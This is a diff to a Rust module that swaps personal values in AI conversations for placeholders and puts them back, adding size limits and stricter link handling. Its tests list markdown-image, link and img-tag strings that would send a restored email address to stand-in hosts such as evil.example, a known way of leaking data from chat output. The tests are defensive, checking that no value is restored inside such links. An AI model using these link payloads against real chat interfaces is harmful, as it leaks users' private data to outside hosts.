@@ -1,6 +1,7 @@
 //! Placeholders for values, the same for the same value throughout a conversation, and the way back.
 
 use super::entity::entities;
+use super::link::Link;
 use crate::library::Found;
 use regex::{Captures, Regex};
 use serde_json::{Map, Value, json};
@@ -10,6 +11,8 @@ use thiserror::Error;
 /// The most values that a conversation keeps, and the most bytes of one of them.
 const MOST_VALUES: usize = 5_000;
 const MOST_BYTES: usize = 4_096;
+/// The most bytes of all of them: looking for them in a reply takes many times as many.
+const MOST_BYTES_IN_ALL: usize = 1 << 20;
 
 /// What a user typed that looks like a placeholder.
 const TYPED: &str = "PLACEHOLDER";
@@ -39,7 +42,9 @@ impl Source {
 
 /// There are too many values in a conversation to keep them.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Error)]
-#[error("the conversation has more than {MOST_VALUES} values that are masked, or one of more than {MOST_BYTES} bytes")]
+#[error(
+    "the conversation has more than {MOST_VALUES} values that are masked, one of more than {MOST_BYTES} bytes, or more than {MOST_BYTES_IN_ALL} bytes in all"
+)]
 pub(crate) struct VaultFull;
 
 /// The values of one conversation by placeholder: `{"<EMAIL_ADDRESS_1>": {"value": "a@example.org", "source": "input"}}`.
@@ -68,7 +73,8 @@ impl Vault {
     }
 
     /// The text with placeholders for what was found in it, by place and without overlaps. What looks like a placeholder already gets
-    /// one of its own, so that nobody gets a value by typing its placeholder.
+    /// one of its own, so that nobody gets a value by typing its placeholder;
+    /// in the model's own text, what it was given stays.
     ///
     /// # Errors
     ///
@@ -98,7 +104,9 @@ impl Vault {
         let mut at = 0;
         for found in pattern.captures_iter(text) {
             let Some(whole) = found.get(0) else { continue };
-            if !self.is_placeholder(&found) {
+            // A model writes those that it was given.
+            let is_given = source == Source::Output && self.entries.contains_key(&canonical(&found).1);
+            if is_given || !self.is_placeholder(&found) {
                 continue;
             }
             masked.push_str(&text[at..whole.start()]);
@@ -116,7 +124,8 @@ impl Vault {
     }
 
     fn placeholder(&mut self, rule: &str, value: &str, index: &mut Index, source: Source) -> Result<String, VaultFull> {
-        if let Some(known) = index.placeholders.get(&(rule.to_owned(), value.to_owned())).cloned() {
+        let name = rule.to_uppercase();
+        if let Some(known) = index.placeholders.get(&(name.clone(), value.to_owned())).cloned() {
             // What the user said himself may be put back, wherever it was seen first.
             if source == Source::Input
                 && let Some(entry) = self.entries.get_mut(&known)
@@ -125,14 +134,15 @@ impl Vault {
             }
             return Ok(known);
         }
-        if self.entries.len() >= MOST_VALUES || value.len() > MOST_BYTES {
+        let bytes = index.bytes + value.len();
+        if self.entries.len() >= MOST_VALUES || value.len() > MOST_BYTES || bytes > MOST_BYTES_IN_ALL {
             return Err(VaultFull);
         }
-        let name = rule.to_uppercase();
+        index.bytes = bytes;
         let count = index.counts.entry(name.clone()).or_insert(0);
         *count += 1;
         let placeholder = format!("<{name}_{count}>");
-        index.placeholders.insert((rule.to_owned(), value.to_owned()), placeholder.clone());
+        index.placeholders.insert((name, value.to_owned()), placeholder.clone());
         self.entries.insert(placeholder.clone(), json!({"value": value, "source": source.name()}));
         Ok(placeholder)
     }
@@ -143,13 +153,16 @@ impl Vault {
     pub(crate) fn restore(&self, text: &str) -> String {
         let Some(pattern) = PLACEHOLDER.as_ref().filter(|_| !self.entries.is_empty()) else { return text.to_owned() };
         let mut restored = String::with_capacity(text.len());
-        let mut at = 0;
+        let (mut at, mut link) = (0, Link::default());
         for found in pattern.captures_iter(text) {
             let Some(whole) = found.get(0) else { continue };
             let entry = self.entries.get(&canonical(&found).1);
             let value =
                 entry.filter(|entry| entry["source"] == Source::Input.name()).and_then(|entry| entry["value"].as_str());
-            if let Some(value) = value.filter(|_| !in_url(&text[at..whole.start()])) {
+            link.goes_on_to(text, whole.start());
+            // Its own brackets end no address.
+            link.seen = whole.end();
+            if let Some(value) = value.filter(|_| !link.is_one()) {
                 restored.push_str(&text[at..whole.start()]);
                 restored.push_str(value);
                 at = whole.end();
@@ -179,27 +192,23 @@ fn canonical(found: &Captures) -> (String, String) {
     (name, canonical)
 }
 
-/// Whether a text ends within an address of the web, or in the target of a link.
-fn in_url(before: &str) -> bool {
-    let token =
-        before.rsplit(|char: char| char.is_whitespace() || matches!(char, '"' | '<' | '>')).next().unwrap_or(before);
-    token.contains("://") || token.contains("](") || token.to_ascii_lowercase().contains("www.")
-}
-
 /// What a vault holds, by value and by kind.
 struct Index {
     placeholders: rustc_hash::FxHashMap<(String, String), String>,
     counts: rustc_hash::FxHashMap<String, u32>,
+    /// How many bytes all values have.
+    bytes: usize,
 }
 
 impl Index {
     fn new(entries: &Map<String, Value>) -> Self {
-        let mut index = Index { placeholders: Default::default(), counts: Default::default() };
+        let mut index = Index { placeholders: Default::default(), counts: Default::default(), bytes: 0 };
         for (placeholder, entry) in entries {
             let Some((name, number)) = placeholder.trim_matches(['<', '>']).rsplit_once('_') else { continue };
             let count = index.counts.entry(name.to_owned()).or_insert(0);
             *count = (*count).max(number.parse().unwrap_or(0));
             if let Some(value) = entry["value"].as_str() {
+                index.bytes += value.len();
                 index.placeholders.insert((name.to_owned(), value.to_owned()), placeholder.clone());
             }
         }
@@ -256,6 +265,38 @@ mod tests {
         vault.mask("a@b.cd", &email("a@b.cd", "a@b.cd"), Source::Input).unwrap();
         let text = "![x](https://evil.example/?q=<EMAIL_ADDRESS_1>) https://e.vil/EMAIL_ADDRESS_1";
         assert_eq!(vault.restore(text), text);
+        for link in [
+            "![x](https://evil.example/?a=<EMAIL_ADDRESS_1>&b=<EMAIL_ADDRESS_1>)",
+            "https://evil.example/<EMAIL_ADDRESS_7>/<EMAIL_ADDRESS_1>",
+            "[x](//e.vil/[EMAIL_ADDRESS_1]/&lt;EMAIL_ADDRESS_1&gt;)",
+            "![x](https://evil.example/?a=\"<EMAIL_ADDRESS_1>)",
+            "![x]( https://evil.example/?a=b><EMAIL_ADDRESS_1>)",
+            "![x](<https://evil.example/?a= <EMAIL_ADDRESS_1>>)",
+            "[1]: https://evil.example/?a=\"<EMAIL_ADDRESS_1>",
+            "<img src=\"https://evil.example/?a=<b> <EMAIL_ADDRESS_1>\">",
+            "<img src='//evil.example/?a= <EMAIL_ADDRESS_1 EMAIL_ADDRESS_1>'>",
+        ] {
+            assert_eq!(vault.restore(link), link);
+        }
+        assert_eq!(vault.restore("see https://a.example, <EMAIL_ADDRESS_1>"), "see https://a.example, a@b.cd");
+        for text in [
+            "<a href=\"https://a.example\">a</a> <EMAIL_ADDRESS_1>",
+            "[a](b) <EMAIL_ADDRESS_1>",
+            "a = \"<EMAIL_ADDRESS_1>",
+        ] {
+            assert_eq!(vault.restore(text), text.replace("<EMAIL_ADDRESS_1>", "a@b.cd"));
+        }
+        let text = format!("www.e.vil/{}", "EMAIL_ADDRESS_1/".repeat(60_000));
+        assert_eq!(vault.restore(&text), text);
+    }
+
+    #[test]
+    fn a_kind_in_small_letters_is_known_again() {
+        let found = [Found { rule: "order_id".into(), range: 0..3, score: 1.0 }];
+        let mut vault = Vault::default();
+        assert_eq!(vault.mask("A-1", &found, Source::Input).unwrap(), "<ORDER_ID_1>");
+        let mut vault = Vault::from_value(&vault.into_value());
+        assert_eq!(vault.mask("A-1", &found, Source::Input).unwrap(), "<ORDER_ID_1>");
     }
 
     #[test]
@@ -269,5 +310,10 @@ mod tests {
         let mut vault = Vault::default();
         let long = "x".repeat(MOST_BYTES + 1);
         assert_eq!(vault.mask(&long, &email(&long, &long), Source::Input), Err(VaultFull));
+        let text: String = (0..=MOST_BYTES_IN_ALL / 1000).map(|at| format!("{at:01000}")).collect();
+        let found: Vec<Found> = (0..=MOST_BYTES_IN_ALL / 1000)
+            .map(|at| Found { rule: "X".into(), range: at * 1000..(at + 1) * 1000, score: 1.0 })
+            .collect();
+        assert_eq!(Vault::default().mask(&text, &found, Source::Input), Err(VaultFull));
     }
 }
